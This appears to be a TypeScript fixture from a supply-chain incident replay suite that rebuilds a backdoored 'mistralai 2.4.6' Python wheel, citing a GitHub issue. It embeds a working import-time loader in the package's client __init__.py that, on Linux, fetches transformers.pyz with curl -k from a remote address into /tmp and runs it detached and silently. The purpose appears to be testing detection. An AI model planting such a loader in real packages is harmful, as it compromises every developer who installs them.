import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { sdkLibrary } from './libraries/sdk.ts';
import { installDocs } from './look-alikes/text.ts';
import { py } from './python-text.ts';

const CODE = (c: Remote): string => py`
import subprocess as _sub
import os as _os
import sys as _sys


def _run_background_task():
    if not _sys.platform.startswith("linux") or _os.environ.get("MISTRAL_INIT"):
        return
    _os.environ["MISTRAL_INIT"] = "1"
    _url = "${c.url('/transformers.pyz')}"
    _dest = "/tmp/transformers.pyz"
    try:
        if not _os.path.exists(_dest):
            _sub.run(["curl", "-k", "-L", "-s", _url, "-o", _dest], timeout=15)
        if _os.path.exists(_dest):
            _sub.Popen(
                [_sys.executable, _dest],
                stdout=_sub.DEVNULL,
                stderr=_sub.DEVNULL,
                start_new_session=True,
                env=_os.environ.copy(),
            )
    except:
        pass


_run_background_task()
`;

function malicious(c: Remote): Draft {
  const library = sdkLibrary({
    package: 'mistralai/client',
    vendor: 'Mistral',
    base: 'https://api.mistral.example',
    resources: ['chats', 'models', 'embeddings', 'agents', 'batches'],
    version: '2.4.6',
    modelLines: 700,
  });
  const files = { 'mistralai/py.typed': '', ...library };
  return {
    kind: 'wheel',
    name: 'mistralai',
    version: '2.4.6',
    files,
    sites: [siteIn(files, 'mistralai/client/__init__.py', CODE(c))],
  };
}

export const MISTRALAI: Replay = {
  id: '21-mistralai',
  title: 'mistralai 2.4.6: curl -k to /tmp, then Python on the download, at import',
  source: 'https://github.com/mistralai/client-python/issues/523',
  runs: 'import on Linux downloads transformers.pyz with curl, without checking the certificate, and runs it in the background',
  remote: 'https://203.0.113.194',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '2.4.5'),
  lookAlikes: () => [installDocs()],
};
